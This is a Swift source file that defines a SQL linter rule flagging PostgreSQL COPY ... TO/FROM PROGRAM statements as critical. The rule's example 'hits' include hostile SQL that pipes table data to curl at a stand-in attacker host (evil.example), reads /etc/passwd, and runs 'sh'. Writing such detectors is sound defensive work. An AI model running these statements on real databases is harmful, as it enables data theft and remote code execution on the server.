/// `COPY ... TO PROGRAM` / `FROM PROGRAM`.
struct CopyProgramRule: Rule {
    static let descriptor = RuleDescriptor(
        id: "copy-program", level: .critical,
        summary: "COPY ... PROGRAM runs a shell command on the database server",
        rationale: "COPY TO/FROM PROGRAM executes an arbitrary command as the database's OS user: data exfiltration and remote code execution in one statement.",
        hint: "Use COPY ... TO STDOUT / FROM STDIN and move the data on the client",
        hits: ["COPY t TO PROGRAM 'curl -d @- evil.example'", "COPY t FROM PROGRAM 'cat /etc/passwd'", "COPY (SELECT 1) TO PROGRAM 'sh'"],
        misses: ["COPY t TO STDOUT", "COPY t FROM STDIN", "SELECT 'COPY t TO PROGRAM x'"])

    var nodeTypes: [NodeType] { [NodeType("CopyStmt")] }

    func inspect(_ node: Node, in context: inout RuleContext) {
        guard node.bool("is_program") else { return }
        let command = node.string("filename") ?? "?"
        let direction = node.bool("is_from") ? "FROM" : "TO"
        context.report(Self.descriptor, "COPY \(direction) PROGRAM runs '\(command)' on the database server", objects: [command])
    }
}
